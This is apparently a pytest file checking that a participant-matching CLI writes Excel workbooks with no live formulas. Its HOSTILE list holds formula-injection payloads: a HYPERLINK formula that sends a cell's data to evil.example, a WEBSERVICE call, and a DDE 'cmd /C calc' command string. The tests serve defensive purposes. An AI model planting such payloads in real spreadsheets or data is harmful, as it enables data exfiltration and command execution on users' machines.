"""Hostile workbooks, plans and text (issue 20): no live formula in any workbook written, no
silent row loss or unbounded cost reading one, strict plan files, inert text on the terminal
and in the page, an exit code that never lies after a signal, and a quiet, local library.

Each test is named after the defect it replays, as a new user meets it: the CLI as a
subprocess, files made byte by byte where needed."""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import MAY2016, REPO, tiny_data

ENV = dict(os.environ, PYTHONPATH=str(REPO), PYTHONHASHSEED="0")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B3,"click")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "bell\x07 nul\x00 esc\x1b[31m",
]


def matcher(
    *args: str, stdin: bytes | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "matcher", *args],
        input=stdin.decode("latin-1") if stdin is not None else None,
        capture_output=True,
        text=True,
        env=ENV,
        cwd=REPO,
        timeout=timeout,
    )


def write_json(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def hostile_tiny() -> dict[str, Any]:
    """tiny_data with a hostile value in every free-text field a workbook shows."""
    data = tiny_data()
    for i, p in enumerate(data["participants"]):
        text = HOSTILE[i % len(HOSTILE)]
        p["name"] = text
        p["email"] = "=1+1" if i % 2 else "a@b.org"
        p["organisation"] = f"{text} org{i}"
        p["organisation_type"] = HOSTILE[(i + 1) % len(HOSTILE)]
        p["system"] = HOSTILE[(i + 2) % len(HOSTILE)]
        p["interests"] = ["=A1", *p["interests"]]
    for c in data["cohorts"]:
        c["name"] = '=HYPERLINK("http://x.example","cohort")'
        c["venue"] = "@venue\x01"
    return data


def formula_cells(book: Path) -> list[str]:
    """Every <f> element (a formula) in every sheet part of the workbook, and whether any
    sheet part holds a raw C0 control character."""
    found = []
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                body = z.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<f[ >][^<]*", body)]
                found += [f"{name}: t=str" for _ in re.findall(r't="str"', body)]
    return found


def shared_strings(book: Path) -> str:
    """The XML of the shared strings and every sheet (write-only sheets hold inline strings)."""
    with zipfile.ZipFile(book) as z:
        parts = [n for n in z.namelist() if n.endswith("sharedStrings.xml") or "worksheets/" in n]
        return html.unescape("".join(z.read(n).decode("utf-8") for n in parts))


# --- 1. workbooks out ---------------------------------------------------------------------------


def test_formula_in_name_is_never_a_live_formula_in_the_plan_workbook(tmp_path: Path) -> None:
    """A name, email, organisation, type, system, cohort name or venue starting with `=` was
    written as a live formula (HYPERLINK to another person's cell, WEBSERVICE)."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "plan.xlsx"
    run = matcher("solve", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []
    strings = shared_strings(out)
    assert '=HYPERLINK("http://evil.example/?"&B3' in strings
    assert "WEBSERVICE" in strings and "@SUM(A1:A9)" in strings
    # Read back: the values are the text as typed, the formulas are not there.
    from openpyxl import load_workbook

    book = load_workbook(out)
    values = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert '=HYPERLINK("http://evil.example/?"&B3,"click")' in values
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_control_character_in_name_made_visible_not_illegal_character_error(
    tmp_path: Path,
) -> None:
    """A control character in a name (valid in JSON) made the plan workbook impossible: exit 1,
    IllegalCharacterError."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "plan.xlsx"
    run = matcher("solve", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    strings = shared_strings(out)
    assert "bell\\x07 nul\\x00 esc\\x1b[31m" in strings
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", strings)


def test_formula_in_name_is_text_in_the_report_workbook(tmp_path: Path) -> None:
    """`matcher report PLAN INSTANCE -o x.xlsx` writes the same safe workbook."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    plan = tmp_path / "plan.json"
    assert matcher("solve", str(src), "-o", str(plan)).returncode == 0
    out = tmp_path / "report.xlsx"
    run = matcher("report", str(plan), str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []


def test_formula_in_name_is_text_in_the_intake_template(tmp_path: Path) -> None:
    """`matcher template --from INSTANCE` wrote the hostile values as formulas too; read back,
    the workbook gives the same text."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    out = tmp_path / "intake.xlsx"
    run = matcher("template", "--from", str(src), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []
    assert '=HYPERLINK("http://x.example"' in shared_strings(out)


def test_sheet_cell_unit() -> None:
    """The one safe-cell rule: numbers stay numbers, text is text whatever it starts with."""
    from openpyxl import Workbook

    from matcher.text import MAX_CELL, sheet_cell

    ws = Workbook().active
    assert sheet_cell(ws, 3) == 3 and sheet_cell(ws, 0.5) == 0.5 and sheet_cell(ws, None) is None
    for text in HOSTILE:
        cell = sheet_cell(ws, text)
        assert cell.data_type == "s"
    assert sheet_cell(ws, "=1").quotePrefix
    assert len(sheet_cell(ws, "x" * 100_000).value) <= MAX_CELL
